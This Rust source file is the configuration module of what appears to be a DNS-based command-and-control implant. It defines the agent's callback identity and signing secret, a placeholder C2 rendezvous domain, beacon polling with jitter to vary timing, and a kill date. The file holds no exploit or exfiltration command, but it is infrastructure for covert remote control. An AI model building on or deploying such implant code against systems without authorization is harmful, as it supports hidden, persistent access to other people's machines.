//! Runtime configuration and identity for the agent.
//!
//! `AgentIdentity` is created once at startup and never mutated; it carries
//! the 36-character callback UUID and the shared signing secret. `AgentConfig`
//! holds the channel parameters (rendezvous domain, polling interval, jitter,
//! message prefixes, kill date). The config is owned by the `AgentSession`
//! and read on every loop iteration; the only runtime mutation is the `sleep`
//! command rewriting the polling interval, which is safe because a single
//! loop drives the session.

/// Immutable per-process identity.
#[derive(Debug, Clone)]
pub struct AgentIdentity {
    /// Canonical 36-character UUID identifying this agent to the controller.
    pub uuid: String,
    /// Opaque key material for query authentication. Used as raw bytes, not
    /// hex-decoded, to match the controller's signing side.
    pub shared_secret: String,
}

impl AgentIdentity {
    /// Builds an identity from a configured UUID and signing key.
    ///
    /// # Errors
    /// Returns a validation error if the UUID is not in 36-character
    /// canonical form or the signing key is empty. Both are fatal startup
    /// conditions: the agent must not enter the tasking loop with a broken
    /// identity.
    pub fn new(uuid: String, shared_secret: String) -> crate::error::Result<Self> {
        if uuid.len() != 36 {
            return Err(crate::error::AgentError::validation_error(
                "Agent UUID must be in 36-character canonical form",
            ));
        }
        if shared_secret.is_empty() {
            return Err(crate::error::AgentError::validation_error(
                "Signing key must not be empty",
            ));
        }

        Ok(Self {
            uuid,
            shared_secret,
        })
    }

    /// Builds an identity with a freshly generated v4 UUID.
    pub fn generate(shared_secret: String) -> crate::error::Result<Self> {
        Self::new(uuid::Uuid::new_v4().to_string(), shared_secret)
    }
}

/// Channel configuration, owned by the session and read every iteration.
#[derive(Debug, Clone)]
pub struct AgentConfig {
    /// C2 rendezvous domain the query names are rooted under.
    pub domain: String,
    /// Base polling interval in milliseconds.
    pub sleep_interval_ms: u64,
    /// Jitter applied to the polling interval, in percent of the base.
    pub jitter_percent: u64,
    /// Prefix label for poll and result queries.
    pub poll_prefix: String,
    /// Prefix label for check-in queries.
    pub checkin_prefix: String,
    /// Date after which the loop terminates without further network
    /// activity. `None` disables the check.
    pub kill_date: Option<chrono::NaiveDate>,
}

impl Default for AgentConfig {
    /// Controller-side defaults for the DNS profile.
    fn default() -> Self {
        Self {
            domain: "c2.example.com".to_string(),
            sleep_interval_ms: 15_000,
            jitter_percent: 10,
            poll_prefix: "dash".to_string(),
            checkin_prefix: "app".to_string(),
            kill_date: None,
        }
    }
}

impl AgentConfig {
    /// Whether the configured kill date has passed (UTC date comparison).
    pub fn is_kill_date_passed(&self) -> bool {
        match self.kill_date {
            Some(date) => chrono::Utc::now().date_naive() > date,
            None => false,
        }
    }
}

/// Applies uniform jitter to a sleep interval.
///
/// Returns a duration in `[base - base*percent/100, base + base*percent/100]`
/// with both endpoints reachable. A zero base or zero percent returns the
/// base unchanged.
pub fn apply_jitter(base_ms: u64, jitter_percent: u64) -> u64 {
    if base_ms == 0 || jitter_percent == 0 {
        return base_ms;
    }

    let max_offset = base_ms * jitter_percent / 100;
    if max_offset == 0 {
        return base_ms;
    }

    // Uniform draw over [-max_offset, +max_offset], endpoints included.
    let raw: [u8; 8] = urandom::new().random_bytes();
    let offset = (u64::from_le_bytes(raw) % (2 * max_offset + 1)) as i64 - max_offset as i64;
    (base_ms as i64 + offset) as u64
}
